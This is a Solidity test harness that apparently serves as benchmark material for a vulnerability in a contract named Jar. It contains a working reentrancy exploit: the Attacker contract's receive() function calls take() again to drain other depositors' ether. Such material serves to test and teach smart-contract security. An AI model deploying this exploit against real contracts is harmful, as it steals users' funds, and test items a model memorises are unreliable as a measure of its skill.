// SPDX-License-Identifier: MIT
pragma solidity VERSION;

import "./Jar.sol";

interface Vm {
    function deal(address who, uint256 wei_) external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    Jar jar;
    Attacker thief;

    function setUp() public {
        vm.deal(address(this), 11 ether);
        jar = new Jar();
        jar.put{value: 10 ether}();
        thief = new Attacker{value: 1 ether}(jar);
    }

    function test_Regular() public {
        uint256 before = address(this).balance;
        jar.take();
        require(address(this).balance == before + 10 ether, "an owner gets the coins back");
        jar.close();
    }

    function exploit() public {
        thief.run();
    }

    function target() public view returns (address) {
        return address(jar);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    receive() external payable {}
}

contract Attacker {
    Jar jar;
    uint256 left = 9;

    constructor(Jar jar_) public payable {
        jar = jar_;
    }

    function run() external {
        jar.put{value: 1 ether}();
        jar.take();
    }

    receive() external payable {
        if (left > 0) {
            left--;
            jar.take();
        }
    }
}
